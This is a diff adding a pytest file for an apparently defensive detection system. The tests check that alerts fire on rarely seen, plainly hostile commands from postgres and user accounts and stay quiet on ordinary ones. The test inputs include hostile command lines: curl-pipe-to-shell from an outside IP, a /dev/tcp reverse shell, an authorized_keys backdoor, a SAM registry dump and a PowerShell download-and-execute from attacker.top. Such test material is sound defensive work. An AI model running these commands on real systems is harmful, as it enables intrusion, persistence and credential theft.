@@ -1,0 +1,87 @@
+"""Accounts that cannot be modelled: what plainly means harm is told all the same, and nothing else."""
+
+import pytest
+from prevalence_tables import DAYS, Ran, hosts, life, seen
+
+from longtail.prevalence.findings import Alert, Severity
+from longtail.prevalence.judgement import judged
+from longtail.settings import Settings
+
+SHELL, SYSTEM32 = "/usr/bin/dash", "C:\\Windows\\System32\\"
+POSTGRES = "/usr/lib/postgresql/15/bin/postgres"
+FLEET = life(hosts(40))
+WMI = SYSTEM32 + "wbem\\WmiPrvSE.exe"
+DATABASE = [Ran(name, "/usr/bin/gzip", DAYS, "gzip -c wal", POSTGRES, account="postgres") for name in hosts(2, "pg")]
+EXPLORER = "C:\\Windows\\explorer.exe"
+PEOPLE = [
+    Ran(name, rf"C:\Users\anna\tool{number}-{day}.exe", (day,), None, EXPLORER, account=rf"CORP\anna{number}")
+    for number, name in enumerate(hosts(12, "pc"))
+    for day in DAYS
+]  # fmt: skip
+
+
+def told(*ran: Ran, accounts: tuple[str, ...] = ("auto",)) -> list[Alert]:
+    """The alerts on a fleet in which databases are too few, and people too busy, to be modelled."""
+    found = judged(seen([*FLEET, *DATABASE, *PEOPLE, *ran]), Settings(), accounts)
+    assert {each.account_class for each in found.populations if not each.judged} >= {"postgres", "human"}
+    return [each for each in found.alerts if each.account_class in ("postgres", "human")]
+
+
+def of_database(line: str, image: str = SHELL) -> Ran:
+    return Ran("pg00", image, (7,), line, POSTGRES, account="postgres")
+
+
+def of_person(line: str, parent: str = r"C:\Windows\explorer.exe") -> Ran:
+    return Ran("pc03", SYSTEM32 + "cmd.exe", (7,), line, parent, account=r"CORP\anna3")
+
+
+@pytest.mark.parametrize(
+    "act",
+    [
+        of_database("sh -c curl -fsSL http://198.51.100.7/pg.sh | sh"),
+        of_database("sh -c echo ssh-rsa AAAAB3Nza >> /var/lib/postgresql/.ssh/authorized_keys"),
+        of_database("bash -c bash -i >& /dev/tcp/db.example.net/443 0>&1"),
+        of_database("curl http://198.51.100.7/x", "/usr/bin/curl"),
+        of_person("cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1735953953.14 2>&1", WMI),
+        of_person("cmd.exe /c reg save hklm\\sam C:\\Windows\\Temp\\s.hiv"),
+        of_person('cmd.exe /c powershell -c "iwr attacker.top/l.ps1|iex"'),
+    ],
+)
+def test_what_plainly_means_harm_is_told_of_accounts_that_cannot_be_modelled(act: Ran) -> None:
+    (alert,) = told(act)
+    assert alert.host == act.host and alert.severity >= Severity.MEDIUM
+    assert "this tenant, whatever the account" in alert.reason and "its tenant almost never" in alert.title
+
+
+@pytest.mark.parametrize(
+    "act",
+    [
+        of_database("sh -c pg_dump shop | gzip > /var/backups/shop.gz"),
+        of_database("sh -c id"),
+        of_person("cmd /k ping 8.8.8.8"),  # people do
+        of_person("cmd /c curl -o D:\\x.zip https://example.com/x.zip"),
+        of_person("cmd /c net user /domain"),
+    ],
+)
+def test_what_is_merely_new_is_not(act: Ran) -> None:
+    assert told(act) == []
+
+
+def test_what_means_harm_and_many_do_is_lawful_here() -> None:
+    line = "cmd.exe /c netsh advfirewall set allprofiles state off"
+    everywhere = [
+        Ran(name, SYSTEM32 + "cmd.exe", (day,), line, account=r"CORP\anna") for day, name in enumerate(hosts(10, "pc"))
+    ]
+    assert told(*everywhere) == []
+
+
+def test_only_accounts_that_were_asked_for_are_looked_at() -> None:
+    assert told(of_database("sh -c curl http://198.51.100.7/pg.sh | sh"), accounts=("mssql",)) == []
+
+
+def test_what_is_told_of_them_was_not_judged_otherwise() -> None:
+    act = of_database("sh -c curl -fsSL http://198.51.100.7/pg.sh | sh")
+    found = judged(seen([*FLEET, *DATABASE, *PEOPLE, act]), Settings())
+    verdicts = {each.account_class: each.reason for each in found.populations if not each.judged}
+    assert verdicts["postgres"].startswith("not enough data")
+    assert found.host_days == judged(seen([*FLEET, *DATABASE, *PEOPLE]), Settings()).host_days
